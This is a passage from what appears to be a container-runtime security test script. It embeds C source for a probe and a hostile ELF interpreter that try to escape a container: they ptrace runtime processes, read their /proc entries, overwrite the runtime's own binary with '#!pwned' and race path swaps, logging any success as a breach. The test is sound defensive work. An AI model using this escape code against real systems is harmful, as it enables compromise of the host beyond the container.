	held[n_held].ino = st.st_ino;
	n_held++;
}

/* Its exe still hidden from us: a process of the runtime's (non-dumpable). A process that
 * has just executed the container's program is no longer one, and fair game. */
static int protected(int pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd >= 0)
		close(fd);
	return fd < 0 && (errno == EACCES || errno == EPERM);
}

/* Stopped by us: what does it run? Only a program of the container's is fair game. */
static int runs_ours(int pid)
{
	char path[64], link[512];
	struct stat st;
	ssize_t n;
	int status;

	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	/* gone meanwhile (exec's `true` exits at once): nothing left to tell. Only a dumpable
	 * process could be seized, which ours never are before their execve. */
	if (waitpid(pid, &status, __WALL) == pid && (WIFEXITED(status) || WIFSIGNALED(status)))
		return 1;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, link, sizeof(link) - 1);
	if (n < 0 && errno == ENOENT)
		return 1;
	link[n > 0 ? n : 0] = '\0';
	if (n > 0 && stat(path, &st) == 0 && in_root(link, &st))
		return 1;
	printf("seized pid %d runs %s\n", pid, n > 0 ? link : "(unknown)");
	return 0;
}

/* A process whose exe we may not see is one of the runtime's: nothing of it may open. */
static void peek_protected(int pid)
{
	static const char *const what[] = { "cwd", "root", "environ", "mem", "fd/0", "fd/3",
					    "fd/4", "fd/5", "fd/6", "fd/7" };
	char path[64];

	for (size_t i = 0; i < sizeof(what) / sizeof(what[0]); i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/%d/%s", pid, what[i]);
		fd = open(path, O_RDONLY | O_CLOEXEC | (i < 2 ? O_PATH : 0));
		if (fd >= 0) {
			if (protected(pid))
				breach("opened", pid, what[i]);
			close(fd);
		}
	}
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		if (!runs_ours(pid))
			breach("ptrace-seized", pid, "");
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

static void scan(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	while (d && (e = readdir(d))) {
		char path[64];
		int pid = atoi(e->d_name), fd;

		if (pid <= 0 || pid == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0) {
			breach("exe-opened-for-writing", pid, "");
			close(fd);
		}
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd >= 0)
			grab_exe(pid, fd);
		else if (errno == EACCES || errno == EPERM)
			peek_protected(pid);
	}
	if (d)
		closedir(d);
}

/* The held files once their processes are gone (ETXTBSY until then). */
static void reopen_held(void)
{
	for (int i = 0; i < n_held; i++) {
		char path[64];
		int w;

		if (held[i].fd < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
		w = open(path, O_WRONLY | O_CLOEXEC);
		if (w < 0)
			continue;
		breach("reopened-for-writing", held[i].pid, "the exe held");
		if (write(w, "#!pwned\n", 8) == 8)
			printf("wrote over it\n");
		close(w);
		close(held[i].fd);
		held[i].fd = -1;
	}
}

/* race SECONDS: scan every visible process again and again. */
static int race(double secs)
{
	double end = now() + secs;
	long scans = 0;

	while (now() < end) {
		scan();
		reopen_held();
		scans++;
	}
	/* the runtime may have exited just now: one more chance for what is held */
	usleep(200000);
	reopen_held();
	printf("race: %ld scans, %d exes held, %ld breaches\n", scans, n_held, breaches);
	return breaches ? 2 : 0;
}

/* hold FD LOG [stay]: run by a hostile ELF interpreter with the runtime's exe open as FD. In
 * the background (exec must return: while the runtime runs its binary is busy), reopen it for
 * writing until that works, fails otherwise, or 10 s pass; the outcome goes to LOG. With
 * "stay" the foreground process stays (it is the container's init, which keeps pflask
 * waiting) after writing LOG.started. */
static int hold(int fd, const char *log, int stay)
{
	char path[64];
	double end;
	FILE *out;
	int w = -1, e = 0;

	/* as pid 1 (the container's process) leaving would end the pid namespace */
	if (getpid() != 1 && fork() != 0) {
		char started[PATH_MAX];
		FILE *f;

		if (!stay)
			return 0;
		snprintf(started, sizeof(started), "%s.started", log);
		f = fopen(started, "w");
		if (f)
			fclose(f);
		sleep(60);
		return 0;
	}
	end = now() + 10;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	while ((w = open(path, O_WRONLY | O_CLOEXEC)) < 0 && (e = errno) == ETXTBSY &&
	       now() < end)
		usleep(2000);
	out = fopen(log, "a");
	if (!out)
		return 1;
	if (w >= 0 && write(w, "#!pwned\n", 8) == 8)
		fprintf(out, "BREACH wrote over the runtime's binary\n");
	else
		fprintf(out, "refused: %s\n", strerror(w >= 0 ? errno : e));
	fclose(out);
	return 0;
}

/* swap A B SECONDS: exchange two paths as fast as possible (renameat2 RENAME_EXCHANGE). */
static int swap(const char *a, const char *b, double secs)
{
	double end = now() + secs;
	long n = 0;

	while (now() < end)
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0)
			n++;
	printf("swap: %ld exchanges\n", n);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && strcmp(argv[1], "race") == 0)
		return race(atof(argv[2]));
	if ((argc == 4 || argc == 5) && strcmp(argv[1], "hold") == 0)
		return hold(atoi(argv[2]), argv[3], argc == 5 && strcmp(argv[4], "stay") == 0);
	if (argc == 5 && strcmp(argv[1], "swap") == 0)
		return swap(argv[2], argv[3], atof(argv[4]));
	fprintf(stderr, "usage: probe race SECONDS | hold FD LOG | swap A B SECONDS\n");
	return 64;
}
EOF
}

interp_source() {
	cat <<'EOF'
/* A hostile image's ELF interpreter: the kernel runs it first in the process of the program
 * that asked for it, before anything of that program. It opens /proc/self/exe (O_PATH) as fd
 * 100 and becomes /probe hold. Raw syscalls: no libc is set up in an interpreter. */
static long sc3(long n, long a, long b, long c)
{
	long r;
#if defined(__x86_64__)
	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b,
		 x2 __asm__("x2") = c;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
	r = x0;
#else
#error "x86_64 and aarch64 only"
#endif
	return r;
}

#if defined(__x86_64__)
enum { NR_openat = 257, NR_dup3 = 292, NR_execve = 59, NR_exit = 60 };
#else
enum { NR_openat = 56, NR_dup3 = 24, NR_execve = 221, NR_exit = 93 };
#endif
#define AT_FDCWD_ (-100)
#define O_PATH_ 010000000

void _start(void)
{
#ifdef STAY
	static char *const argv[] = { "/probe", "hold", "100", "/tmp/hold.log", "stay", 0 };
#else
	static char *const argv[] = { "/probe", "hold", "100", "/tmp/hold.log", 0 };
#endif
	long fd = sc3(NR_openat, AT_FDCWD_, (long)"/proc/self/exe", O_PATH_);

	if (fd >= 0 && fd != 100)
		sc3(NR_dup3, fd, 100, 0);
	sc3(NR_execve, (long)"/probe", (long)argv, 0);
	sc3(NR_exit, 127, 0, 0);
}
EOF
}
